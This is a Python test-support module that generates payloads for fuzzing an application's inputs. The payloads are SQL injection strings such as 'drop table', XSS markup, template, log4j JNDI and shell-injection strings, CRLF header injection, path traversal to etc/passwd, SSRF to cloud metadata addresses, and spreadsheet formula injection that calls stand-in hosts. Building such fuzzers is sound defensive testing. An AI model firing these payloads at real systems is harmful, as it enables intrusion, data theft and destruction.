"""Hostile inputs of our own making, for every entry: some thousands of texts, and bodies that are no honest JSON.

`texts()` gives (kind, text); `bodies()` gives bytes; `sample(n, salt)` a repeatable choice over all kinds.
"""

import itertools
import random
from collections import Counter
from collections.abc import Iterator
from functools import cache
from typing import Final, NamedTuple

from lifang.core.testing.bodies import bodies

__all__ = ["GENERATORS", "Hostile", "bodies", "count", "sample", "texts"]


class Hostile(NamedTuple):
    kind: str
    text: str


_NUMBERS: Final = ("1", "0", "-1", "1=1", "''", "'a'='a'", "null", "true", "99999999999999999999")
_TAILS: Final = ("--", "-- -", "#", "/*", ";--", ";%00", "")
_CALLS: Final = (
    "alert(1)",
    "alert`1`",
    "fetch('//x.invalid')",
    "document.cookie",
    "import('//x.invalid/a.js')",
)
_TAGS: Final = (
    "script",
    "img",
    "svg",
    "iframe",
    "body",
    "input",
    "details",
    "video",
    "object",
    "math",
    "a",
    "style",
)
_ON: Final = (
    "onerror",
    "onload",
    "onfocus autofocus",
    "onmouseover",
    "ontoggle open",
    "onanimationstart",
)
_WORDS: Final = ("路灯不亮", "case", "O'Brien", "", "井盖 missing")
_INVISIBLE: Final = "\u200b\u200c\u200d\u2060\ufeff\u00ad\u034f\u180e\u2061\u2062\u3164\uffa0"
_BIDI: Final = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c"
_STRANGE: Final = (
    "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466",
    "\U0001f1e8\U0001f1f3",
    "\U000e0041\U000e0042",
    "\ufdfd" * 3,
    "\u0b95\u0bcd\u0bb7",
    "\U0010fffd",
    "\ud7ff\ue000",
    "ﬀﬁﬂ",
    "①②③",
    "İıſK",
    "\u1e9b\u0323",
    "䶮\U00020000\U0002a6d6",
    "\u0085\u2028\u2029",
    "\x01\x02\x07\x08\x0b\x0c\x1b[31m\x7f",
    "\t\r\n \u00a0\u3000",
    "Z" + "\u0300\u0301\u0302\u0303" * 60,
)


def sql() -> Iterator[str]:
    """Attempts to leave a quoted value or a number in SQL."""
    joins = (
        "or",
        "and",
        "union select",
        "; drop table",
        "; update",
        "||",
        "order by 999",
        "; select pg_sleep(3)",
    )
    for quote, join, what, tail in itertools.product(
        ("'", '"', "", "')", "$$", "\\'", "’"), joins, _NUMBERS, _TAILS
    ):
        yield f"a{quote} {join} {what}{tail}"


def xss() -> Iterator[str]:
    """Attempts to become markup or script."""
    for tag, on, call in itertools.product(_TAGS, _ON, _CALLS):
        yield f"<{tag} {on}={call}>"
        yield f"\"><{tag.upper()}/{on}='{call}' x"
    for call, scheme in itertools.product(
        _CALLS, ("javascript:", "JaVaScRiPt:", "java\tscript:", "data:text/html,", "vbscript:")
    ):
        yield f"<a href={scheme}{call}>x</a>"
        yield f"{scheme}{call}"
    for call in _CALLS:
        yield f"</script><script>{call}</script>"
        yield f"<!--><img src=x onerror={call}>"
        yield f"';{call};//"
        yield f"&lt;script&gt;{call}&lt;/script&gt;"
        yield f"\\u003cscript\\u003e{call}"


def template() -> Iterator[str]:
    """Attempts to be run by a template, a format string, a shell or a logger."""
    inner = (
        "7*7",
        "config",
        "request",
        "settings.SECRET_KEY",
        "''.__class__.__mro__",
        "debug",
        "x|safe",
        "self",
        "0.__class__",
    )
    around = (
        ("{{", "}}"),
        ("{%", "%}"),
        ("${", "}"),
        ("#{", "}"),
        ("<%=", "%>"),
        ("{", "}"),
        ("%(", ")s"),
        ("$(", ")"),
        ("`", "`"),
        ("${jndi:ldap://", "}"),
    )
    for (start, end), what in itertools.product(around, inner):
        yield f"{start}{what}{end}"
        yield f"{start} {what} {end}"
    for what in (
        "%s%s%n",
        "%x" * 20,
        "{0.__init__.__globals__}",
        "{fact}",
        "{}",
        "{0}",
        "%d",
        "%%",
        "{{{{",
        "}}}}",
    ):
        yield what
    for shell in (
        "; id",
        "| id",
        "&& id",
        "`id`",
        "$(id)",
        "\nid\n",
        "; ping -c 9 127.0.0.1",
        "> /tmp/x",
    ):
        yield f"a{shell}"


def crlf() -> Iterator[str]:
    """Attempts to add headers or log lines."""
    for mark, what in itertools.product(
        ("\r\n", "\n", "\r", "%0d%0a", "%0a", "\u560a\u560d", "\x85", "\u2028"),
        (
            "Set-Cookie: a=b",
            "Location: //x.invalid",
            "Content-Length: 0\r\n\r\n",
            "<b>",
            "INFO fake line",
            "X: y",
            "Bcc: all@x.invalid",
        ),
    ):
        yield f"a{mark}{what}"


def path() -> Iterator[str]:
    """Attempts to leave a folder or reach another address."""
    for up, times, what in itertools.product(
        ("../", "..\\", "%2e%2e/", "..%2f", "....//", "..;/", "%252e%252e%252f", "／．．／"),
        (1, 3, 8),
        ("etc/passwd", "windows/win.ini", "proc/self/environ", "manage.py", ".git/config"),
    ):
        yield up * times + what
    for scheme in (
        "file:///",
        "gopher://",
        "http://169.254.169.254/",
        "http://127.0.0.1:",
        "http://[::1]/",
        "http://0/",
        "dict://",
        "//x.invalid",
        "\\\\x.invalid\\a",
        "http://x.invalid@127.0.0.1/",
    ):
        yield scheme
        yield f"{scheme}latest/meta-data"
    yield from (
        "CON",
        "NUL",
        "aux.txt",
        "a.jpg.exe",
        "a\x00.jpg",
        ".htaccess",
        "~root",
        "-rf",
        "*",
        "a/b",
        "a\\b",
    )


def unicode_() -> Iterator[str]:
    """Text that is legal and awkward."""
    for mark, word, place in itertools.product(_INVISIBLE + _BIDI, _WORDS, (0, 1, 2)):
        yield (f"{mark}{word}", f"{word}{mark}", mark.join(word or "x"))[place]
    for strange, word in itertools.product(_STRANGE, _WORDS):
        yield strange + word
        yield word + strange
    for word in ("admin", "管理员", "system"):
        yield "".join(chr(ord(c) + 0xFEE0) if "!" <= c <= "~" else c for c in word)
        yield f"\u202e{word[::-1]}\u202c"
        yield word.replace("a", "а").replace("e", "е")


def long() -> Iterator[str]:
    """Text beyond any field."""
    for unit, length in itertools.product(
        ("a", "里", "\U0001f3ee", " ", "\n", "<", "'", "e\u0301"), (61, 201, 5_000, 70_000)
    ):
        yield unit * length


def numbers() -> Iterator[str]:
    """What is nearly a number, a date, a code or a truth."""
    digits = (
        "0",
        "00",
        "-0",
        "+1",
        "1e9",
        "1e400",
        "0x1F",
        "1_000",
        "1,000",
        "1.",
        ".1",
        "NaN",
        "Infinity",
        "-Infinity",
        "１２",
        "٣",
        "Ⅳ",
        "²",
        "½",
        "1 2",
        "1\n",
        "−1",
    )
    big = [
        str(2**power + step)
        for power in (7, 8, 15, 16, 31, 32, 53, 63, 64, 128)
        for step in (-1, 0, 1)
    ]
    dates = (
        "2026-02-30",
        "0000-00-00",
        "9999-12-31",
        "10000-01-01",
        "2026-13-01",
        "1969-12-31T23:59:59",
        "2026-11-23T25:00",
        "-2026-01-01",
        "二〇二六年",
        "now",
        "2026-W10",
        "1e10",
    )
    codes = (
        "990101",
        "990101/../",
        "9901_1",
        "%",
        "990101001001001001001",
        "９９０１０１",
        "*",
        "990101\n",
        "00000000-0000-0000-0000-000000000000",
        "{00000000-0000-7000-8000-000000000000}",
        "urn:uuid:x",
        "0" * 32,
    )
    truths = (
        "true",
        "True",
        "TRUE",
        "yes",
        "on",
        "1",
        "null",
        "None",
        "undefined",
        "[]",
        "{}",
        "[object Object]",
        "nil",
        "()",
        "\\N",
    )
    for text in (*digits, *big, *(f"-{number}" for number in big), *dates, *codes, *truths):
        yield text
        yield f" {text}"
        yield f"{text}\t"


def cells() -> Iterator[str]:
    """What a spreadsheet would compute."""
    calls = (
        "1+1",
        'cmd|" /C calc"!A0',
        'HYPERLINK("//x.invalid","x")',
        'WEBSERVICE("//x.invalid")',
        "SUM(1,1)",
        'IMPORTXML("//x.invalid","a")',
        "2+5+cmd|'x'!A0",
    )
    for mark, call in itertools.product(
        ("=", "+", "-", "@", "\t=", "\r=", " =", "＝", "＋", "＠", '"=', "'=", ";=", ",="), calls
    ):
        yield mark + call


GENERATORS: Final = {
    "sql": sql,
    "xss": xss,
    "template": template,
    "crlf": crlf,
    "path": path,
    "unicode": unicode_,
    "long": long,
    "numbers": numbers,
    "cells": cells,
}


def texts() -> Iterator[Hostile]:
    """Every text, each once."""
    seen: set[str] = set()
    for kind, made in GENERATORS.items():
        for text in made():
            if text not in seen:
                seen.add(text)
                yield Hostile(kind, text)


@cache
def _kinds() -> list[list[Hostile]]:
    return [[Hostile(kind, text) for text in made()] for kind, made in GENERATORS.items()]


def sample(most: int, salt: str) -> list[Hostile]:
    """A choice that is the same each time for the same salt, with every kind in it."""
    chance = random.Random(salt)  # noqa: S311 -- repeatable on purpose
    kinds = _kinds()
    each = max(1, most // len(kinds))
    return [one for found in kinds for one in chance.sample(found, min(each, len(found)))]


def count() -> Counter[str]:
    """How many of each kind, and `bodies`."""
    return Counter(one.kind for one in texts()) + Counter(bodies=sum(1 for _ in bodies()))
